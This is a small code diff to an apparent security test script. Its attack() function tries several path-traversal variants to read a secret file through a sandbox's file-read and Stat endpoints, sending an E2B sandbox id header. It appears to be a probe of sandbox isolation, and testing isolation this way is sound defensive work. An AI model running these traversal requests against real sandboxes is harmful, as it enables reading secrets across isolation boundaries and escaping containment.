@@ -4,7 +4,7 @@
 # plain: naive
 
 def attack():
-    for path in ('../' * 20 + secret_path.lstrip('/'), secret_path, "/home/user/" + '../' * 20 + secret_path.lstrip('/'), "/lab/../" + secret_path.lstrip("/"), "/tmp/../" + secret_path.lstrip("/"), "//" + secret_path):
+    for path in ('../' * 20 + secret_path.lstrip('/'), secret_path, "/home/user/" + '../' * 20 + secret_path.lstrip('/'), "/home/user/../" + secret_path.lstrip("/"), "/tmp/../" + secret_path.lstrip("/"), "//" + secret_path):
         ask("GET", f"/files?path={quote(path)}", E2b_Sandbox_Id=mine.sandbox)
         ask("POST", "/filesystem.Filesystem/Stat", {"path": path}, E2b_Sandbox_Id=mine.sandbox)
 
